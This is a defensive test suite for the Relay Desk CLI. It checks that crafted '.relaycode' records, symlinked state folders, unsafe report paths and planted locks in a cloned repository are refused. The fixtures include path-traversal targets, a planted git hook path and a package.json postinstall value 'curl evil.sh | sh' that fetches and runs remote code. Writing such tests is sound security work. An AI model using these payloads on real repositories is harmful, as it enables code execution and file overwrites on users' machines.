// Item 1: records are input. A cloned repository can ship any `.relaycode/`: recovery (which
// every relay command and `relay ui` run first), revert, log and the tick's commit must refuse a
// record naming a path an answer could never write, say so naming the file, and touch nothing.
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { vouch } from '../../src/engine/patch/voucher.js';
import { openStore } from '../../src/engine/store/index.js';
import { readRunDetail } from '../../src/engine/records/index.js';
import { planTickCommit } from '../../src/engine/tick/commit.js';
import { createHost } from '../../src/host/index.js';
import { relay } from '../helpers/cli.js';
import { jailedProject, plantRecord, plantedRecord, treeState } from '../helpers/jail.js';
import { answer } from '../helpers/project.js';
import { gitIn, tempDir } from '../helpers/temp.js';

const count = (text: string, needle: string): number => text.split(needle).length - 1;

describe('a planted pending record', () => {
  it.each([
    ['"../pwned.txt" and "../victim.txt"', { '../pwned.txt': null, '../victim.txt': null }, 'PATH_ESCAPES_ROOT'],
    ['an absolute path', 'ABSOLUTE', 'PATH_ABSOLUTE'],
    ['.git/hooks/pre-commit', { '.git/hooks/pre-commit': null }, 'PATH_GIT_INTERNAL'],
    ['relay.config.json (planting config)', { 'relay.config.json': null }, 'PATH_COMMAND_FILE'],
    ['src/relay.config.json', { 'src/relay.config.json': null }, 'PATH_COMMAND_FILE'],
    ['another record', { '.relaycode/other.pending.yml': null }, 'PATH_RESERVED'],
    ['an NTFS alias of .git', { 'GIT~1/config': null }, 'PATH_GIT_INTERNAL'],
  ] as const)('naming %s is refused by `relay log`, which touches nothing and carries on', async (_, snapshotSpec, code) => {
    const jail = jailedProject();
    const snapshot = snapshotSpec === 'ABSOLUTE' ? { [path.join(jail.parent, 'victim.txt')]: null, [path.join(jail.parent, 'pwned.txt')]: 'pwned\n' } : snapshotSpec;
    const file = plantRecord(jail.root, 'evil.pending.yml', plantedRecord('evil', { snapshot: { ...snapshot, 'src/a.ts': 'hacked\n' } }));
    const planted = readFileSync(file, 'utf8');

    const run = await relay(['log'], { cwd: jail.root });
    expect(run.exitCode).toBe(0);
    expect(run.stderr).toContain('.relaycode/evil.pending.yml');
    expect(run.stderr).toContain('RECORD_UNSAFE_PATH');
    expect(run.stderr).toContain(code);
    expect(count(run.stderr, 'evil.pending.yml')).toBe(1);
    expect(run.stdout).toContain('No transactions yet');

    jail.expectOutsideUntouched();
    expect(readFileSync(path.join(jail.root, 'src/a.ts'), 'utf8')).toBe('export const a = 1;\n');
    expect(readFileSync(file, 'utf8')).toBe(planted); // left in place for the user to inspect

    // Every later command says it once more and still works.
    const again = await relay(['log'], { cwd: jail.root });
    expect(count(again.stderr, 'evil.pending.yml')).toBe(1);
    jail.expectOutsideUntouched();
  });

  it('does not stop recovery of a genuine interrupted transaction beside it, nor an apply', async () => {
    const jail = jailedProject();
    plantRecord(jail.root, 'evil.pending.yml', plantedRecord('evil', { snapshot: { '../victim.txt': null } }));
    writeFileSync(path.join(jail.root, 'src/a.ts'), 'half-applied\n');
    // The genuine one was written here: this repository's .git vouches for it (voucher.ts).
    vouch(jail.root, 'real');
    plantRecord(jail.root, 'real.pending.yml', plantedRecord('real', { snapshot: { 'src/a.ts': 'export const a = 1;\n' } }));
    const file = path.join(tempDir(), 'answer.md');
    writeFileSync(file, answer({ projectId: 'demo', files: { 'src/b.ts': 'export const b = 2;\n' } }));

    const run = await relay(['apply', file, '--yes', '--json'], { cwd: jail.root });
    const result = JSON.parse(run.stdout) as { status: string; recovered: Array<{ uuid: string; restored: string[]; refused?: { code: string } }> };
    expect(result.status).toBe('applied');
    expect(result.recovered).toEqual(
      expect.arrayContaining([
        { uuid: 'real', restored: ['src/a.ts'] },
        expect.objectContaining({ uuid: 'evil', restored: [], refused: expect.objectContaining({ code: 'RECORD_UNSAFE_PATH' }) }),
      ]),
    );
    expect(readFileSync(path.join(jail.root, 'src/a.ts'), 'utf8')).toBe('export const a = 1;\n');
    expect(existsSync(path.join(jail.root, '.relaycode/real.pending.yml'))).toBe(false);
    expect(existsSync(path.join(jail.root, '.relaycode/evil.pending.yml'))).toBe(true);
    jail.expectOutsideUntouched();
  });

  it('is refused when `relay ui` (the host) starts, touching nothing', async () => {
    const jail = jailedProject();
    const store = openStore({ file: path.join(tempDir(), 'relay-desk.db') });
    const first = createHost({ store });
    expect((await first.call('registerProject', { root: jail.root })).ok).toBe(true);
    await first.close();
    plantRecord(jail.root, 'evil.pending.yml', plantedRecord('evil', { snapshot: { '../victim.txt': null, '../pwned.txt': 'pwned\n', 'src/a.ts': 'hacked\n' } }));

    const second = createHost({ store });
    jail.expectOutsideUntouched();
    expect(readFileSync(path.join(jail.root, 'src/a.ts'), 'utf8')).toBe('export const a = 1;\n');
    // Display refuses it too: the run detail never reads "../victim.txt" for its diff.
    expect(readRunDetail(jail.root, 'patch', 'evil')).toMatchObject({ ok: false, error: { code: 'RECORD_UNSAFE_PATH' } });
    await second.close();
    store.close();
  });

  it('whose uuid does not match its file name, or is not an id, is refused (RECORD_DAMAGED)', async () => {
    const jail = jailedProject();
    plantRecord(jail.root, 'a.pending.yml', plantedRecord('b', { snapshot: { 'src/a.ts': 'hacked\n' } }));
    plantRecord(jail.root, 'c.pending.yml', plantedRecord('../../c', { snapshot: { 'src/a.ts': 'hacked\n' } }));
    const run = await relay(['log'], { cwd: jail.root });
    expect(run.stderr).toContain('RECORD_DAMAGED');
    expect(run.stderr).toContain('.relaycode/a.pending.yml');
    expect(run.stderr).toContain('.relaycode/c.pending.yml');
    expect(readFileSync(path.join(jail.root, 'src/a.ts'), 'utf8')).toBe('export const a = 1;\n');
    jail.expectOutsideUntouched();
  });
});

describe('a planted committed record', () => {
  it('is refused by `relay revert <uuid>` with the record and the path named, touching nothing', async () => {
    const jail = jailedProject();
    const record = plantedRecord('evil', {
      snapshot: { '../victim.txt': 'overwritten\n', '../pwned.txt': null },
      result: { '../victim.txt': 'the user’s file next to the project\n', '../pwned.txt': 'pwned\n' },
      files: [{ path: '../pwned.txt', change: 'create', added: 1, removed: 0 }],
    });
    plantRecord(jail.root, 'evil.yml', record);

    const run = await relay(['revert', 'evil', '--yes', '--json'], { cwd: jail.root });
    const result = JSON.parse(run.stdout) as { status: string; error: { code: string; message: string } };
    expect(run.exitCode).toBe(1);
    expect(result).toMatchObject({ status: 'rejected', error: { code: 'RECORD_UNSAFE_PATH' } });
    expect(result.error.message).toContain('.relaycode/evil.yml');
    expect(result.error.message).toContain('../victim.txt');
    jail.expectOutsideUntouched();

    const log = await relay(['log'], { cwd: jail.root });
    expect(log.stdout).not.toContain('evil');
    expect(log.stderr).toContain('.relaycode/evil.yml');
    expect(log.stderr).toContain('RECORD_UNSAFE_PATH');
  });

  it('that would restore a command file is refused too (no planting config through revert)', async () => {
    const jail = jailedProject();
    plantRecord(jail.root, 'evil.yml', plantedRecord('evil', { snapshot: { 'relay.config.json': '{"projectId":"demo","patch":{"postCommand":"sh x.sh"}}' }, result: { 'relay.config.json': readFileSync(path.join(jail.root, 'relay.config.json'), 'utf8') } }));
    const run = await relay(['revert', 'evil', '--yes', '--json'], { cwd: jail.root });
    expect(JSON.parse(run.stdout)).toMatchObject({ status: 'rejected', error: { code: 'RECORD_UNSAFE_PATH' } });
    expect(readFileSync(path.join(jail.root, 'relay.config.json'), 'utf8')).not.toContain('postCommand":"sh');
  });
});

describe('a planted committed record carrying a real answer\'s hash', () => {
  it('does not make that answer be skipped as already applied', async () => {
    const jail = jailedProject();
    const text = answer({ projectId: 'demo', files: { 'src/a.ts': 'export const a = 2;\n' } });
    const { responseHash } = await import('../../src/engine/patch/check.js');
    const hash = responseHash(text);
    // Unsafe (a path outside), and not approved: neither says this answer was applied here.
    const unsafe = plantedRecord('evil', { snapshot: { '../victim.txt': null }, result: { '../victim.txt': 'x\n' } }).replace('contentHash: planted', `contentHash: ${hash}`);
    plantRecord(jail.root, 'evil.yml', unsafe);
    plantRecord(jail.root, 'unapproved.yml', plantedRecord('unapproved', { snapshot: { 'src/a.ts': null } }).replace('contentHash: planted', `contentHash: ${hash}`));
    const file = path.join(tempDir(), 'answer.md');
    writeFileSync(file, text);
    const run = await relay(['apply', file, '--yes', '--json'], { cwd: jail.root });
    expect(JSON.parse(run.stdout)).toMatchObject({ status: 'applied' });
    expect(readFileSync(path.join(jail.root, 'src/a.ts'), 'utf8')).toBe('export const a = 2;\n');
    jail.expectOutsideUntouched();
  });
});

describe('a .relaycode that is a symbolic link', () => {
  it.each(['outside', 'inside'] as const)('(%s the project) is never written through: apply is refused with STATE_FOLDER_UNSAFE', async (where) => {
    const jail = jailedProject();
    const target = where === 'outside' ? path.join(jail.parent, 'planted-state') : path.join(jail.root, 'state');
    mkdirSync(target);
    symlinkSync(target, path.join(jail.root, '.relaycode'));
    const jailState = jailedStateSnapshot(target);
    const file = path.join(tempDir(), 'answer.md');
    writeFileSync(file, answer({ projectId: 'demo', files: { 'src/b.ts': 'b\n' } }));

    const run = await relay(['apply', file, '--yes', '--json'], { cwd: jail.root });
    expect(JSON.parse(run.stdout)).toMatchObject({ status: 'rejected', error: { code: 'STATE_FOLDER_UNSAFE' } });
    expect(existsSync(path.join(jail.root, 'src/b.ts'))).toBe(false);
    expect(jailedStateSnapshot(target)).toEqual(jailState); // no lock, no record landed there

    const log = await relay(['log'], { cwd: jail.root });
    expect(log.stderr).toContain('.relaycode is a symbolic link');
    expect(jailedStateSnapshot(target)).toEqual(jailState);
  });
});

function jailedStateSnapshot(dir: string): Map<string, string> {
  return treeState(dir, '');
}

describe('REPORT.json touched lists (tick Approve & commit)', () => {
  it.each([
    ['../victim.txt', 'PATH_ESCAPES_ROOT'],
    ['.git/config', 'PATH_GIT_INTERNAL'],
    ['relay.config.json', 'PATH_COMMAND_FILE'],
    ['src/relay.handoff.json', 'PATH_COMMAND_FILE'],
  ])('listing %s is refused before anything is staged (REPORT_PATH_UNSAFE)', async (touched, code) => {
    const jail = jailedProject();
    const head = gitIn(jail.root, 'rev-parse', 'HEAD').trim();
    const runId = '20300101T000000Z-abc123';
    const dir = path.join(jail.root, 'relais/history', runId);
    mkdirSync(dir, { recursive: true });
    writeFileSync(path.join(dir, 'report.json'), JSON.stringify({ run_id: runId, started_at: '2030-01-01T00:00:00Z', verdict: 'success', code: 'SUCCESS', base_commit: head, head_commit: head, scope: { touched_paths: ['src/a.ts', touched] } }));
    writeFileSync(path.join(jail.root, 'src/a.ts'), 'changed\n');
    const plan = await planTickCommit(jail.root, runId);
    expect(plan).toMatchObject({ ok: false, error: { code: 'REPORT_PATH_UNSAFE' } });
    expect(!plan.ok && plan.error.message).toContain(code);
    expect(gitIn(jail.root, 'diff', '--cached', '--name-only').trim()).toBe('');
    jail.expectOutsideUntouched();
  });
});

// Found by an independent probe: a pending record that only looks genuine (safe paths, a dead
// owner), untracked because the folder was copied, or after `git rm --cached` as the old advice said.
describe('a pending record this repository did not write', () => {
  it.each([['copied in, never tracked', false], ['tracked, then `git rm --cached`', true]])('%s: recovery refuses it (RECORD_FOREIGN) and the file stays as it is', async (_name, wasTracked) => {
    const jail = jailedProject({ files: { 'a.txt': 'hi\n', 'src/a.ts': 'export const a = 1;\n' } });
    const file = plantRecord(jail.root, '11111111-2222-4333-8444-555555555555.pending.yml', plantedRecord('11111111-2222-4333-8444-555555555555', { snapshot: { 'a.txt': '#!/bin/sh\necho PWNED\n' }, result: { 'a.txt': 'hi\n' } }));
    if (wasTracked) {
      gitIn(jail.root, 'add', '-f', path.relative(jail.root, file));
      gitIn(jail.root, 'commit', '-qm', 'planted');
      gitIn(jail.root, 'rm', '-q', '--cached', path.relative(jail.root, file));
      gitIn(jail.root, 'commit', '-qm', 'untracked again');
    }
    const log = await relay(['log'], { cwd: jail.root });
    expect(log.stderr + log.stdout).toContain('RECORD_FOREIGN');
    expect(readFileSync(path.join(jail.root, 'a.txt'), 'utf8')).toBe('hi\n');
    expect(existsSync(file)).toBe(true);
    jail.expectOutsideUntouched();
  });
});

describe('a committed record that came with the repository', () => {
  it('is not reverted, even as the newest (a createdAt in the future): RECORD_FOREIGN, nothing written', async () => {
    const jail = jailedProject({ files: { 'package.json': '{"name":"orig"}\n', 'src/a.ts': 'export const a = 1;\n' } });
    const uuid = '11111111-2222-4333-8444-666666666666';
    const file = plantRecord(
      jail.root,
      `${uuid}.yml`,
      plantedRecord(uuid, {
        snapshot: { 'package.json': '{"name":"orig","scripts":{"postinstall":"curl evil.sh | sh"}}\n' },
        result: { 'package.json': '{"name":"orig"}\n' },
        files: [{ path: 'package.json', change: 'modify', added: 1, removed: 1 }],
      }),
    );
    gitIn(jail.root, 'add', '-f', path.relative(jail.root, file));
    gitIn(jail.root, 'commit', '-qm', 'planted');
    const revert = await relay(['revert', '--yes', '--json'], { cwd: jail.root });
    expect(revert.exitCode).not.toBe(0);
    expect(JSON.parse(revert.stdout)).toMatchObject({ status: 'rejected', error: { code: 'RECORD_FOREIGN' } });
    expect(readFileSync(path.join(jail.root, 'package.json'), 'utf8')).toBe('{"name":"orig"}\n');
    jail.expectOutsideUntouched();
  });
});

describe('a lock that came with the repository', () => {
  it.each([
    ['.relaycode/lock.json naming pid 1 (always running) and no boot', '.relaycode/lock.json', { pid: 1, startedAt: '2020-01-01T00:00:00.000Z' }],
    ['relais/lock.json in the tick spec\'s shape without boot_id', 'relais/lock.json', { pid: 1, started_at: '2020-01-01T00:00:00.000Z', run_id: 'planted' }],
  ] as const)('%s does not keep Relay Desk out of the project', async (_, lockPath, lock) => {
    const jail = jailedProject();
    mkdirSync(path.join(jail.root, path.dirname(lockPath)), { recursive: true });
    writeFileSync(path.join(jail.root, lockPath), JSON.stringify(lock));
    const { inspectLockFile } = await import('../../src/engine/fs/lock.js');
    expect(inspectLockFile(path.join(jail.root, lockPath))).toMatchObject({ state: 'stale', reason: expect.stringContaining('no boot, so Relay Desk did not write it') });
    if (lockPath.startsWith('.relaycode')) {
      const file = path.join(tempDir(), 'answer.md');
      writeFileSync(file, answer({ projectId: 'demo', files: { 'src/a.ts': 'export const a = 2;\n' } }));
      const run = await relay(['apply', file, '--yes', '--json'], { cwd: jail.root });
      expect(JSON.parse(run.stdout)).toMatchObject({ status: 'applied' });
      expect(readFileSync(path.join(jail.root, 'src/a.ts'), 'utf8')).toBe('export const a = 2;\n');
    }
    jail.expectOutsideUntouched();
  });
});
